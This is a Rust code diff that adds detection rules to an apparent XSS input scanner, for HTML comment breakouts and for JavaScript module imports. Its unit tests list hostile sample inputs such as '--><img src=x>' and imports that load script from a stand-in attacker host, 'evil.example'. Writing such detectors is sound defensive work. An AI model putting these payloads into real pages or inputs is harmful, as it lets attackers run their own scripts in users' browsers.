@@ -218,6 +218,65 @@ fn entity_declaration(s: &[u8]) -> bool {
     decl.starts_with(b"system") || decl.starts_with(b"public") || decl.starts_with(b"\"")
 }
 
+/// Whether `s` (trimmed) starts with an HTML comment's end (`-->`, `--!>`).
+pub(crate) fn comment_breakout(s: &[u8]) -> bool {
+    let t = s.trim_ascii_start();
+    t.starts_with(b"-->") || t.starts_with(b"--!>")
+}
+
+/// `import <bindings> from "<path>"` or `import("<path>")`, where the module's path has a
+/// `/` (a relative path or a URL: what loads code from somewhere). Bindings are `{...}`, `*
+/// as x`, or a name; prose (`import it from 'Germany'`) names no path.
+pub(crate) fn module_import(s: &[u8]) -> bool {
+    let mut from = 0;
+    while let Some(p) = crate::find(&s[from..], b"import") {
+        let at = from + p;
+        from = at + 6;
+        if at > 0 && (s[at - 1].is_ascii_alphanumeric() || matches!(s[at - 1], b'_' | b'$' | b'.'))
+        {
+            continue;
+        }
+        // `imported`, `important`: another word.
+        if !s
+            .get(at + 6)
+            .is_some_and(|c| c.is_ascii_whitespace() || matches!(c, b'{' | b'(' | b'*'))
+        {
+            continue;
+        }
+        let rest = s[at + 6..].trim_ascii_start();
+        let spec = if rest.first() == Some(&b'(') {
+            rest[1..].trim_ascii_start()
+        } else {
+            let bound = match rest.first() {
+                Some(b'{') => memchr::memchr(b'}', rest).map(|q| q + 1),
+                Some(b'*') => Some(1),
+                Some(c) if c.is_ascii_alphabetic() || matches!(c, b'_' | b'$') => Some(
+                    rest.iter()
+                        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$'))
+                        .count(),
+                ),
+                _ => None,
+            };
+            let Some(b) = bound else { continue };
+            let after = &rest[b..];
+            let Some(f) = crate::find(&after[..after.len().min(64)], b"from") else {
+                continue;
+            };
+            after[f + 4..].trim_ascii_start()
+        };
+        let Some(&q) = spec.first().filter(|q| matches!(q, b'\'' | b'"' | b'`')) else {
+            continue;
+        };
+        let body = &spec[1..];
+        if let Some(end) = memchr::memchr(q, body) {
+            if memchr::memchr(b'/', &body[..end]).is_some() {
+                return true;
+            }
+        }
+    }
+    false
+}
+
 /// The value with `\xHH` and `\u00HH` escapes turned into their bytes, when it has any.
 fn js_unescape(s: &[u8]) -> Option<Vec<u8>> {
     let hex = |c: u8| (c as char).to_digit(16).map(|d| d as u8);
@@ -495,6 +554,17 @@ fn detect_at(
         if entity_declaration(&s[p + 7..]) {
             return Some("xss-xml-entity");
         }
+    }
+    // A value that starts by closing an HTML comment (`-->`, `--!>`): written into a page's
+    // comment (debug output, templates that comment out a field), it ends the comment and
+    // whatever follows is markup. Prose writes arrows between words, not as a value's start.
+    if comment_breakout(s) {
+        return Some("xss-comment-breakout");
+    }
+    // A JavaScript module import (`import {a} from "./x.js"`, `import("//host/x.js")`):
+    // written into a script, it loads and runs a script of the attacker's choosing.
+    if module_import(s) {
+        return Some("xss-js-import");
     }
     // UTF-7 markup (`+ADw-script+AD4-`), which old browsers decode.
     if memchr::memchr(b'+', s).is_some()
@@ -844,6 +914,43 @@ mod tests {
             "email me @ <b>home</b>",
             "<a href=\"https://example.com/@click\">x</a>",
             "reach us @click=here",
+        ] {
+            assert_eq!(hit(b), None, "false positive: {b}");
+        }
+    }
+
+    #[test]
+    fn html_comment_breakout() {
+        for a in ["-->", "--><img src=x>", " --!>", "-->=1"] {
+            assert!(hit(a).is_some(), "missed: {a}");
+        }
+        for b in [
+            "step 1 --> step 2",
+            "A-->B",
+            "<-- back",
+            "--> ".trim_start_matches('-'),
+        ] {
+            assert_eq!(hit(b), None, "false positive: {b}");
+        }
+    }
+
+    #[test]
+    fn javascript_module_imports() {
+        for a in [
+            "import { sayHi, sayBye } from \"./greeting.js\";",
+            "import * as m from '//evil.example/m.js'",
+            "import x from `/x.js`",
+            "import('https://evil.example/x.js')",
+            "1;import(\"/a\")",
+        ] {
+            assert!(hit(a).is_some(), "missed: {a}");
+        }
+        for b in [
+            "I had to import it from 'Germany'",
+            "import { useState } from 'react'",
+            "imported from \"Italy/Spain\"",
+            "import duties from the EU",
+            "important: from 'a/b'",
         ] {
             assert_eq!(hit(b), None, "false positive: {b}");
         }
